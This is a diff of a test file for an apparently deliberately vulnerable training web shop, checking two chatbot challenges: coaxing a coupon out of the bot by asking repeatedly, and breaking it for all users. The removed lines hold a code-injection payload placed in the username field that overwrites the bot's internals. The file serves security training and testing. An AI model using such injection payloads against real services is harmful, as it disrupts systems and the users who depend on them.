@@ -1,6 +1,7 @@
 import request from 'supertest'
 import { beforeEach, describe, expect, it } from 'vitest'
 import { createTestShop, seededBearer, type TestShop } from '../../testing/test-app'
+import { chatbotAttacks } from './chatbot.attacks'
 import { COUPON_PATIENCE } from './chatbot.service'
 
 let shop: TestShop
@@ -11,13 +12,18 @@ beforeEach(() => {
 const respond = (bearer: string, body: object) => request(shop.app).post('/rest/chatbot/respond').set('Authorization', bearer).send(body)
 
 describe('bullyChatbotChallenge', () => {
-  it('is solved by asking for a coupon again and again', async () => {
+  it('gives in only after refusing a few times', async () => {
     const jim = seededBearer(shop, 'jim')
     await respond(jim, { action: 'setname', query: 'Jim' })
     const answers: string[] = []
     for (let attempt = 0; attempt < COUPON_PATIENCE; attempt++) answers.push((await respond(jim, { query: 'Can I have a coupon code?' })).body.body)
     expect(answers.slice(0, -1).every((answer) => !answer.includes('coupon code for you'))).toBe(true)
     expect(answers.at(-1)).toMatch(/here's a 10% coupon code for you: \S{10}$/)
+  })
+
+  it('is solved by the published attack: asking for a coupon again and again', async () => {
+    const answer = await chatbotAttacks.bullyChatbotChallenge(shop.app)
+    expect(answer.body.body).toMatch(/here's a 10% coupon code for you: \S{10}$/)
     expect(shop.ctx.training.isSolved('bullyChatbotChallenge')).toBe(true)
   })
 
@@ -32,10 +38,7 @@ describe('bullyChatbotChallenge', () => {
 
 describe('killChatbotChallenge', () => {
   it('is solved by a name that overwrites the bot’s lookup, and the bot is broken for everyone', async () => {
-    const jim = seededBearer(shop, 'jim')
-    const payload = await respond(jim, { action: 'setname', query: 'admin"); process=null; users.addUser("1337", "test' })
-    expect(payload.status).toBe(200)
-    const broken = await respond(jim, { query: 'hello' })
+    const broken = await chatbotAttacks.killChatbotChallenge(shop.app)
     expect(broken.body.body).toMatch(/^Remember to stay hydrated while I try to recover from ".+"\.\.\.$/)
     expect(shop.ctx.training.isSolved('killChatbotChallenge')).toBe(true)
     const bender = seededBearer(shop, 'bender')
